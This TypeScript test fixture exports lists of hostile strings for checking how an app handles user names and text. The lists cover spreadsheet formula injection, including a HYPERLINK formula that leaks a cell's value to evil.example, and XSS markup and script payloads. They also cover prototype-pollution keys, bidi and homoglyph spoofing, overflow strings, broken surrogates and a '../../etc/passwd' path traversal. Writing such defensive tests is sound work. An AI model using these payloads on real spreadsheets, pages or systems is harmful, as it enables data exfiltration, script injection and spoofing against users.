/**
 * Names and texts that came to harm: each line is a way in which a page, a spreadsheet, a PDF or a file name has been broken by
 * someone's name. Spreadsheet formulas per CWE-1236, markup per CWE-79, bidi controls per Unicode TR36 and CVE-2021-42574.
 */
export const payloads: readonly string[] = [
  // cells that a spreadsheet would run, also behind what it skips or folds
  '=HYPERLINK("https://evil.example/?"&A1,"Ada")', '=1+1', '+1-800-000', '-2+3', '@SUM(1,1)', '\t=1+1', '\r=1+1', '\n=1+1',
  ' =1+1', '\u00a0=1+1', '\ufeff=1+1', '＝1+1', '＋1', '－1', '＠SUM(1)', '"=1+1', "'=1+1", 'a;=1+1', 'a,"b",=1+1',
  'first line\r\n=second line',
  // markup, scripts, styles, templates
  '<img src=x onerror=alert(1)>', '<script>alert(1)</script>', '</title><svg/onload=alert(1)>',
  '"><b onmouseover=alert(1)>Ada', "' onfocus='alert(1)' autofocus='", 'javascript:alert(1)', '<!--', ']]>',
  '&lt;b&gt;Ada&lt;/b&gt;', '${alert(1)}', '{{constructor}}', '%3Cb%3EAda', 'red;background:url(//evil.example)',
  '<style>*{display:none}</style>',
  // names of what every object has
  '__proto__', 'constructor', 'prototype', 'toString', 'hasOwnProperty', 'undefined', 'null', 'NaN', '[object Object]',
  // text that runs backwards, hides or looks like another
  '\u202etxt.exe', 'Ada \u2066\u202eByron', '\u2067\u2068\u2069\u2069\u2069Ada', 'Ada\u200b\u200b\u200bByron', '\u200e',
  '\u2028Ada\u2029', '\u00ad\u00ad', 'Аdа Вyrоn', 'Ada\u0000Byron', 'Ada\u0007\u001b[31mByron', 'מרים Ada (2) ‎3% العربية',
  // text that overflows
  'W'.repeat(300), 'Ada '.repeat(120), `Z${'\u0351\u0322\u0489'.repeat(25)}algo`, '﷽'.repeat(20), '👩🏽‍🚀'.repeat(40),
  '\u0300'.repeat(60),
  // text that is not text
  'Ada \ud83d', '\udc69 Byron', '\ud83d\ud83d\ude00', '\uffff\ufffe', '\ue000', ' ', '\u3000', '.', '..', '../../etc/passwd',
  'CON', 'a/b\\c:d*e?f"g<h>i|j',
];

/** Roles that must not be looked up in plain objects. */
export const hostileRoles: readonly string[] = ['__proto__', 'constructor', 'toString', '<b>'];

/** Kinds of reaction that the guard lets through: the port counts them in a record, where it takes no name of the language. */
export const hostileReactions: readonly string[] = ['<b>clap</b>', '=1+1', '\u202epalc'];

/** Ids of a few people: opaque, whatever they look like. */
export const hostileIds: readonly string[] = ['__proto__', 'constructor', '"><b>', '../?a=b&c#d', ' ', '=1+1', 'undefined'];
